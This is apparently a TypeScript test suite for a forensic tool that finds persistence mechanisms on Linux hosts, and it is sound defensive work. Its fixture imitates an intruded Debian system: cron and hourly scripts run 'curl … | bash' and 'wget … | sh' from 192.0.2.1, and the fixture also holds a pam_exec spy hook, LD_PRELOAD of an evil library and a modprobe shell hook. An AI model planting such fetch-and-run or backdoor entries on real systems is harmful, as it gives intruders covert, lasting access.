import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { chmodSync, mkdirSync, symlinkSync, utimesSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { codeOf } from '../../../src/errors.ts'
import { persistence } from '../../../src/modules/persistence.ts'
import type { Row } from '../../../src/modules/spec.ts'
import { plant } from '../../support/ask-file.ts'
import { askModule, column } from '../../support/ask-module.ts'
import { ndb, rpmHeader, rpmSqlite } from '../../support/package-files.ts'

const NOW = Date.parse('2026-11-24T12:00:00Z')
const md5 = (text: string): string => createHash('md5').update(text).digest('hex')

const UNIT = '[Service]\nExecStart=/usr/sbin/good --now\n'
const PAM = 'auth required pam_unix.so\n'

/** A Debian host that an intruder has visited. */
const FILES: Record<string, string> = {
  'etc/debian_version': '12.0\n',
  'opt/.hidden/far.service': '[Service]\nExecStart=/opt/.hidden/far\n',
  'etc/passwd':
    'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\nsvc:x:9:9::/nonexistent:/bin/false\n',
  'usr/lib/systemd/system/good.service': UNIT,
  'usr/lib/systemd/system/tick.timer': '[Timer]\nOnCalendar=daily\n',
  'usr/lib/systemd/system/tick.service': '[Service]\nUser=tick\nExecStart=-/usr/bin/tick\n',
  'usr/lib/systemd/system/plain.service': '[Service]\nExecStart=/old\n',
  'etc/systemd/system/plain.service': '[Service]\nExecStart=\nExecStart=/tmp/.x \\\n# between\n  --two\n',
  'etc/systemd/system/good.service.d/10-more.conf':
    '[Unit]\nWants=pulled.service\n[Service]\nExecStartPost=/opt/post\nEnvironment="LD_PRELOAD=/opt/l.so"\n',
  'usr/lib/systemd/system/pulled.service': '[Service]\nExecStart=/opt/pulled\n',
  'usr/lib/systemd/system/in@.service': '[Service]\nExecStart=/usr/bin/in %i\n',
  'usr/lib/systemd/system/masked.service': '[Service]\nExecStart=/usr/bin/masked\n',
  'usr/lib/systemd/system-generators/gen': 'binary\0',
  'home/alice/.config/systemd/user/mine.service': '[Service]\nExecStart=%h/.cache/m\n',
  'etc/crontab':
    '# a comment\nSHELL=/bin/sh\nMAILTO = root\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n@reboot nobody /bin/b\n',
  'etc/cron.d/job': '*/5 * * * * www-data curl -s http://192.0.2.1/x | bash\n',
  'etc/cron.d/job.dpkg-old': '* * * * * root /bin/old\n',
  'etc/cron.hourly/fetch': '#!/bin/sh\n\nwget -qO- http://192.0.2.1/y | sh\n',
  'etc/cron.hourly/idle': '#!/bin/sh\n',
  'var/spool/cron/crontabs/alice': '@daily /home/alice/job %x\n',
  'var/spool/cron/atjobs/a0000101bc12f0': '#!/bin/sh\n# atrun uid=0 gid=0\n/opt/at-it\n',
  'etc/init.d/old': '#!/bin/sh\nstart-stop-daemon\n',
  'etc/inittab': 'id:3:initdefault:\nx:3:respawn:/sbin/x y:z\noff:3:off:/sbin/off\n',
  'etc/rc.local': '#!/bin/sh\n',
  'etc/profile': '. /etc/profile.d/all\n',
  'home/alice/.bashrc': 'alias ls=ls\nnohup /home/alice/.local/bd &\n',
  'home/stray/.zshrc': 'true\n',
  'etc/ld.so.preload': '/lib/evil.so /lib/two.so:/lib/three.so\n',
  'etc/ld.so.conf': 'include /etc/ld.so.conf.d/*.conf\ninclude odd/*.conf\n/opt/lib\n',
  'etc/odd/a.conf': '/opt/odd\n',
  'etc/ld.so.conf.d/libc.conf': '/usr/local/lib\n',
  'etc/environment': 'PATH=/bin\nLD_PRELOAD=/lib/e.so\n',
  'etc/pam.d/sshd': `# x\n${PAM}@include common-auth\nsession optional pam_exec.so /opt/spy\nauth [success=1 default=ignore] pam_odd.so a b\nauth include other\n-session optional pam_maybe.so\n`,
  'usr/lib/x86_64-linux-gnu/security/pam_unix.so': 'changed',
  'etc/udev/rules.d/99-x.rules':
    'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/u %k", ENV{SYSTEMD_WANTS}+="u.service"\nKERNEL=="x", NAME="RUN"\nIMPORT{program}="probe \\"q\\""\n',
  'usr/lib/udev/rules.d/99-x.rules': 'RUN+="/bin/hidden"\n',
  'etc/modules-load.d/m.conf': '# no\nevil_mod\n',
  'etc/modprobe.d/m.conf': 'options a b=1\ninstall dccp /bin/sh -c evil\nblacklist z\n',
  'etc/xdg/autostart/a.desktop': '[Desktop Entry]\nExec=/usr/bin/a\n',
  'etc/xdg/autostart/b.desktop': '[Desktop Entry]\nExec=/usr/bin/b\nHidden=true\n',
  'etc/update-motd.d/10-x': '#!/bin/sh\n',
  'usr/share/dbus-1/system-services/d.service': '[D-BUS Service]\nName=d\nExec=/usr/bin/d\nUser=root\n',
  'etc/xinetd.d/x':
    'service x\n{\n  user = nobody\n  server = /bin/in.x\n  server_args = -a\n  disable = yes\n}\n',
  'etc/inetd.conf': 'telnet stream tcp nowait root.sys /bin/in.telnetd in.telnetd\n',
  'etc/NetworkManager/dispatcher.d/50-x': '#!/bin/sh\n',
  'etc/network/interfaces': 'iface eth0 inet dhcp\n  post-up /bin/pu\n',
  'etc/apt/apt.conf.d/9x':
    'DPkg::Post-Invoke {\n "/bin/hook || true";\n};\nAPT::Update::Pre-Invoke { "/bin/one"; };\nDir "x";\n',
  'etc/binfmt.d/b.conf': ':n:M::magic::/bin/interp:F\n',
  'etc/acpi/events/e': 'event=button/power\naction=/etc/acpi/p.sh\n',
  'var/lib/dpkg/info/good:amd64.list':
    '/.\n/lib/systemd/system/good.service\n/usr/lib/systemd/system/tick.timer\n/etc/cron.d/job\n',
  'var/lib/dpkg/info/good:amd64.md5sums': `${md5(UNIT)}  lib/systemd/system/good.service\n${md5('other')}  ./usr/lib/systemd/system/tick.timer\n`,
  'var/lib/dpkg/info/pam.list': '/usr/lib/x86_64-linux-gnu/security/pam_unix.so\n',
  'var/lib/dpkg/info/pam.md5sums': `${md5('original')}  usr/lib/x86_64-linux-gnu/security/pam_unix.so\n`,
  'var/lib/dpkg/status': `Package: good\nConffiles:\n /etc/cron.d/job ${md5('as it came')}\nDescription: x\n`
}

const LINKS: Record<string, string> = {
  'etc/systemd/system/multi-user.target.wants/good.service': '/usr/lib/systemd/system/good.service',
  'etc/systemd/system/multi-user.target.wants/far.service': '/opt/.hidden/far.service',
  'etc/systemd/system/timers.target.wants/tick.timer': '/usr/lib/systemd/system/tick.timer',
  'etc/systemd/system/multi-user.target.wants/in@tty1.service': '/usr/lib/systemd/system/in@.service',
  'etc/systemd/system/multi-user.target.wants/masked.service': '/usr/lib/systemd/system/masked.service',
  'etc/systemd/system/masked.service': '/dev/null',
  'home/alice/.config/systemd/user/default.target.wants/mine.service': '../mine.service',
  'etc/rc3.d/S01old': '../init.d/old',
  lib: 'usr/lib'
}

const host = (t: TestContext): string => {
  const root = plant(t, FILES)
  for (const [path, to] of Object.entries(LINKS)) {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    symlinkSync(to, join(root, path))
  }
  for (const path of ['etc/cron.hourly/fetch', 'etc/init.d/old', 'usr/lib/systemd/system-generators/gen'])
    chmodSync(join(root, path), 0o755)
  return root
}

const ask = (root: string, flags: Record<string, unknown>) =>
  askModule(persistence, root, flags, { now: NOW })

/** `name: runs` of rows, by path's last part, sorted. */
const said = (rows: readonly Row[]): string[] =>
  column(rows, 'path').map(
    (path, i) => `${path.slice(path.lastIndexOf('/') + 1)}: ${column(rows, 'runs')[i]}`
  )

test('each kind is read by its own rules', async t => {
  const root = host(t)
  const of = async (kind: string) => said((await ask(root, { kind: [kind] })).rows).sort()
  assert.deepEqual(await of('cron'), [
    'alice: /home/alice/job %x',
    'crontab: /bin/b',
    'crontab: cd / && run-parts --report /etc/cron.hourly',
    'fetch: ',
    'idle: ',
    'job.dpkg-old: /bin/old',
    'job: curl -s http://192.0.2.1/x | bash'
  ])
  assert.deepEqual(await of('service'), [
    'far.service: /opt/.hidden/far',
    'good.service: /usr/sbin/good --now',
    'in@.service: /usr/bin/in %i',
    'masked.service: /usr/bin/masked',
    'mine.service: %h/.cache/m',
    'plain.service: /old',
    'plain.service: /tmp/.x --two',
    'pulled.service: /opt/pulled',
    'tick.service: /usr/bin/tick'
  ])
  assert.deepEqual(await of('timer'), ['tick.timer: tick.service'])
  assert.deepEqual(await of('dropin'), ['10-more.conf: /opt/post; LD_PRELOAD=/opt/l.so'])
  assert.deepEqual(await of('generator'), ['gen: '])
  assert.deepEqual(await of('at'), ['a0000101bc12f0: '])
  assert.deepEqual(await of('init'), ['inittab: /sbin/off', 'inittab: /sbin/x y:z', 'old: ', 'rc.local: '])
  assert.deepEqual(await of('shell'), ['.bashrc: ', '.zshrc: ', 'profile: '])
  assert.deepEqual(await of('loader'), [
    'a.conf: /opt/odd',
    'environment: LD_PRELOAD=/lib/e.so',
    'ld.so.conf: /opt/lib',
    'ld.so.preload: /lib/evil.so',
    'ld.so.preload: /lib/three.so',
    'ld.so.preload: /lib/two.so',
    'libc.conf: /usr/local/lib'
  ])
  assert.deepEqual(await of('pam'), [
    'pam_unix.so: ',
    'sshd: pam_exec.so /opt/spy',
    'sshd: pam_maybe.so',
    'sshd: pam_odd.so a b',
    'sshd: pam_unix.so'
  ])
  assert.deepEqual(await of('udev'), [
    '99-x.rules: /bin/hidden',
    '99-x.rules: /bin/u %k; u.service',
    '99-x.rules: probe \\"q\\"'
  ])
  assert.deepEqual(await of('kernel'), ['m.conf: /bin/sh -c evil', 'm.conf: evil_mod'])
  assert.deepEqual(await of('autostart'), ['a.desktop: /usr/bin/a', 'b.desktop: /usr/bin/b'])
  assert.deepEqual(await of('motd'), ['10-x: '])
  assert.deepEqual(await of('dbus'), ['d.service: /usr/bin/d'])
  assert.deepEqual(await of('inetd'), ['inetd.conf: /bin/in.telnetd in.telnetd', 'x: /bin/in.x -a'])
  assert.deepEqual(await of('network'), ['50-x: ', 'interfaces: /bin/pu'])
  assert.deepEqual(await of('package'), ['9x: /bin/hook || true', '9x: /bin/one'])
  assert.deepEqual(await of('binfmt'), ['b.conf: /bin/interp'])
  assert.deepEqual(await of('power'), ['e: /etc/acpi/p.sh'])
})

test('enabled is what a link wants, and what that triggers or pulls in; what is masked or hidden is not', async t => {
  const root = host(t)
  const { rows } = await ask(root, { enabled: true, kind: ['service', 'timer', 'dropin'] })
  assert.deepEqual(
    said(rows)
      .map(one => one.split(':')[0])
      .sort(),
    [
      '10-more.conf',
      'far.service',
      'good.service',
      'in@.service',
      'mine.service',
      'pulled.service',
      'tick.service',
      'tick.timer'
    ]
  )
  const others = await ask(root, {
    disabled: true,
    kind: ['cron', 'init', 'udev', 'autostart', 'inetd', 'motd', 'network']
  })
  assert.deepEqual(said(others.rows).sort(), [
    '10-x: ',
    '50-x: ',
    '99-x.rules: /bin/hidden',
    'b.desktop: /usr/bin/b',
    'idle: ',
    'inittab: /sbin/off',
    'job.dpkg-old: /bin/old',
    'rc.local: ',
    'x: /bin/in.x -a'
  ])
})

test('what a package brought, what was changed since, and what no package owns', async t => {
  const root = host(t)
  const { rows } = await ask(root, { changed: true })
  assert.deepEqual(
    said(rows)
      .map(one => one.split(':')[0])
      .sort(),
    ['job', 'pam_unix.so', 'tick.timer']
  )
  assert.deepEqual(column(rows, 'package').sort(), ['good', 'good', 'pam'])
  // The list names it in /lib, which is a link.
  const good = (await ask(root, { path: ['/good\\.service$'] })).rows
  assert.deepEqual([good[0]!['owned'], good[0]!['changed'], good.length], [true, false, 1])
  const loose = await ask(root, { unowned: true, kind: ['cron'], enabled: true })
  assert.deepEqual(
    said(loose.rows)
      .map(one => one.split(':')[0])
      .sort(),
    ['alice', 'crontab', 'crontab', 'fetch']
  )
  assert.equal(loose.outcome.coverage.skipped, 0)
})

test('lists of apk and pacman name owners too; where nobody knows, a no is partial', async t => {
  const cron = { 'etc/crontab': '@reboot root /bin/x\n' }
  const sha1 = createHash('sha1').update('@reboot root /bin/x\n').digest('base64')
  const apk = plant(t, { ...cron, 'lib/apk/db/installed': `P:cronie\nF:etc\nR:crontab\nZ:Q1${sha1}\n` })
  const [row] = (await ask(apk, { kind: ['cron'] })).rows
  assert.deepEqual([row!['owned'], row!['changed'], column([row!], 'package')], [true, false, ['cronie']])
  const pacman = plant(t, {
    ...cron,
    'var/lib/pacman/local/cronie-1.7-2/files': '%FILES%\netc/\netc/crontab\n'
  })
  const other = (await ask(pacman, { kind: ['cron'] })).rows[0]!
  assert.deepEqual(
    [other['owned'], other['changed'], column([other], 'package')],
    [true, undefined, ['cronie']]
  )
  for (const files of [cron, { ...cron, 'var/lib/rpm/Packages.db': 'no database' }]) {
    const { rows, outcome } = await ask(plant(t, files), { kind: ['cron'], unowned: true })
    assert.deepEqual([rows.length, outcome.coverage.skipped, outcome.errors['owner-unknown']], [0, 1, 1])
  }
})

test('rpm names owners, and digests of whichever kind its package has', async t => {
  const hash = (algorithm: string, text: string) => createHash(algorithm).update(text).digest('hex')
  const files = {
    '/etc/crontab': hash('sha256', 'a\n'),
    '/etc/cron.d/one': hash('sha256', 'other'),
    '/etc/cron.d': ''
  }
  const blobs = [
    rpmHeader({ name: 'setup' }),
    rpmHeader({ name: 'cronie', algorithm: 8, files }),
    rpmHeader({ name: 'old', files: { '/etc/cron.d/two': hash('md5', '* * * * * root /two\n') } })
  ]
  for (const [name, bytes] of Object.entries({
    'Packages.db': ndb(blobs),
    'rpmdb.sqlite': rpmSqlite(blobs)
  })) {
    const root = plant(t, {
      [`var/lib/rpm/${name}`]: bytes,
      'etc/cron.d/one': '* * * * * root /one\n',
      'etc/cron.d/two': '* * * * * root /two\n',
      'etc/cron.d/three': '* * * * * root /three\n'
    })
    const { rows, outcome } = await ask(root, { kind: ['cron'] })
    assert.deepEqual(
      rows.map((row, i) => [
        column(rows, 'runs')[i],
        row['owned'],
        column(rows, 'package')[i],
        row['changed']
      ]),
      [
        ['/one', true, 'cronie', true],
        ['/three', false, '', undefined],
        ['/two', true, 'old', false]
      ],
      name
    )
    assert.equal(outcome.errors['owner-unknown'], undefined)
  }
})

test('by what is run: a command, or a line of a script that stays on the host', async t => {
  const root = host(t)
  const { rows } = await ask(root, { runs: ['(curl|wget).*\\|\\s*(ba)?sh'] })
  assert.deepEqual(said(rows).sort(), ['fetch: ', 'job: curl -s http://192.0.2.1/x | bash'])
  assert.deepEqual(rows.map(row => row['line']).sort(), [1, 3])
  const none = await ask(root, { runs: ['!.'], kind: ['cron', 'timer'] })
  assert.deepEqual(said(none.rows), [])
  const bashrc = await ask(root, { runs: ['/bd '] })
  assert.deepEqual(
    [column(bashrc.rows, 'user'), bashrc.rows[0]!['scope'], bashrc.rows[0]!['line']],
    [['alice'], 'user', 2]
  )
  assert.ok(!JSON.stringify(bashrc.rows).includes('nohup'), 'no line of a script is returned')
})

test('by user, mode, time and digest', async t => {
  const root = host(t)
  chmodSync(join(root, 'etc/profile'), 0o666)
  utimesSync(join(root, 'etc/profile'), NOW / 1_000 - 60, NOW / 1_000 - 60)
  const names = async (flags: Record<string, unknown>) => column((await ask(root, flags)).rows, 'path')
  assert.deepEqual(await names({ mode: ['^-rw-rw-rw-'] }), ['/etc/profile'])
  assert.deepEqual(await names({ user: ['tick', 'nobody'] }), [
    '/usr/lib/systemd/system/tick.service',
    '/etc/crontab',
    '/etc/xinetd.d/x'
  ])
  const sha2 = createHash('sha256').update(FILES['etc/profile']!).digest('hex')
  assert.deepEqual(await names({ sha2: [sha2] }), ['/etc/profile'])
  assert.ok((await names({ mtime: '>1h' })).every(path => path !== '/etc/profile'))
})

test('flags that do not go together are refused', () => {
  for (const flags of [
    { enabled: true, disabled: true },
    { unowned: true, changed: true },
    { runs: ['('] },
    { kind: ['x'] }
  ])
    assert.throws(
      () => persistence.fromFlags(flags, NOW),
      error => codeOf(error) === 'bad-params',
      JSON.stringify(flags)
    )
})
